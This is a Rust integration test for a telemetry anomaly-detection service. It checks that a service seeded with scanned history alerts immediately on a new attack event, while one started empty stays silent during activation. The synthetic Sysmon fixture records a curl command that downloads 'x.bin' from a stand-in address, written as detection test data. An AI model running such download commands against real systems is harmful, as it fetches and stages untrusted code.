//! Starting a deployment from history: `seldom scan --state S` over archived
//! telemetry, then `seldom serve --state S` on the same folder, alerts on the
//! first new attack event at once, where a service started empty is still
//! in its activation period and stays silent on the same event.

#![allow(clippy::unwrap_used, clippy::expect_used)] // tests fail loudly on broken fixtures

mod common;

use std::path::Path;
use std::time::{Duration, Instant};

use common::{assert_success, seldom, serve};
use seldom_model::{Micros, Timestamp};
use serde_json::Value;

const SYSMON: &str = r#""Channel":"Microsoft-Windows-Sysmon/Operational""#;

/// `YYYY-MM-DD` of the day `days_ago` days before today (UTC).
fn date(days_ago: u32) -> String {
    Timestamp::now()
        .minus(Micros::days(days_ago))
        .to_datetime()
        .format("%Y-%m-%d")
        .to_string()
}

/// Sysmon's `UtcTime` of this moment.
fn utc_now() -> String {
    Timestamp::now()
        .to_datetime()
        .format("%Y-%m-%d %H:%M:%S%.3f")
        .to_string()
}

/// A new attack on `host`, now: `curl.exe` (the Informational curl
/// variation) connecting to an address nobody in the history contacted.
fn attack(host: &str) -> [String; 2] {
    let time = utc_now();
    let image = r"C:\\Windows\\System32\\curl.exe";
    [
        format!(
            r#"{{"EventID":1,{SYSMON},"Hostname":"{host}","UtcTime":"{time}","ProcessGuid":"{{bb0075a7-0000-0000-0000-000000000001}}","ProcessId":"4242","Image":"{image}","CommandLine":"curl.exe -o x.bin http://198.18.99.7/x.bin"}}"#
        ),
        format!(
            r#"{{"EventID":3,{SYSMON},"Hostname":"{host}","UtcTime":"{time}","ProcessGuid":"{{bb0075a7-0000-0000-0000-000000000001}}","ProcessId":"4242","Image":"{image}","DestinationIp":"198.18.99.7","DestinationPort":"80","Initiated":"true"}}"#
        ),
    ]
}

/// Sends the attack and waits until the service has judged it: both events
/// detected and the quiet feed's reorder buffer released (on wall time,
/// after `serve.reorder_wall_timeout`); returns the alerts then.
fn send_attack(server: &serve::Server, host: &str) -> Vec<Value> {
    let lines = attack(host);
    let refs: Vec<&str> = lines.iter().map(String::as_str).collect();
    let sent = Instant::now();
    server.ingest(&refs);
    server.wait_for("/api/v1/status", |status: &Value| {
        status["events_detected"].as_u64() >= Some(2) && status["buffered_events"] == 0
    });
    assert!(
        sent.elapsed() < Duration::from_secs(20),
        "judged after {:?}",
        sent.elapsed()
    );
    let (status, body) = server.get("/api/v1/alerts?limit=1000");
    assert_eq!(status, 200, "{body}");
    body["alerts"].as_array().unwrap().clone()
}

/// Whether the service reports the Windows platform past its activation.
fn windows_active(server: &serve::Server) -> bool {
    let (_, status) = server.get("/api/v1/status");
    status["activation"]
        .as_array()
        .unwrap()
        .iter()
        .any(|p| p["platform"] == "windows" && p["active"] == true)
}

fn simulate_history(dir: &Path) -> std::path::PathBuf {
    // Sixteen days of a 30-host organization, ending yesterday: past the
    // 14-day activation period, and recent enough to be the baseline of now.
    let out = dir.join("history");
    let output = seldom()
        .args(["simulate", "--hosts", "30", "--days", "16", "--start"])
        .arg(date(16))
        .arg("--out")
        .arg(&out)
        .output()
        .unwrap();
    assert_success(&output);
    out.join("telemetry.jsonl")
}

#[test]
fn a_store_scanned_from_history_starts_a_service_that_alerts_at_once() {
    let work = tempfile::tempdir().unwrap();
    let history = simulate_history(work.path());
    let state = work.path().join("state");
    let scan = seldom()
        .arg("scan")
        .arg(&history)
        .arg("--state")
        .arg(&state)
        .args(["--format", "jsonl"])
        .output()
        .unwrap();
    assert_success(&scan);

    // A service started on nothing is in its activation period: silent.
    let empty = serve::start(&work.path().join("empty"), None, &[]);
    let silent = send_attack(&empty, "WS00003.corp.example");
    assert!(silent.is_empty(), "alerted while activating: {silent:?}");
    assert!(!windows_active(&empty));
    drop(empty);

    // The same event on the store the scan left: already activated, one
    // alert at once, with the history's prevalence behind it.
    let server = serve::start(&state, None, &[]);
    assert!(
        windows_active(&server),
        "the scan's activation carried over"
    );
    let alerts = send_attack(&server, "WS00003.corp.example");
    assert_eq!(alerts.len(), 1, "{alerts:?}");
    let alert = &alerts[0]["alert"];
    assert_eq!(alert["variation"], "curl", "{alert}");
    assert_eq!(alert["destination"]["ip"], "198.18.99.7", "{alert}");
}
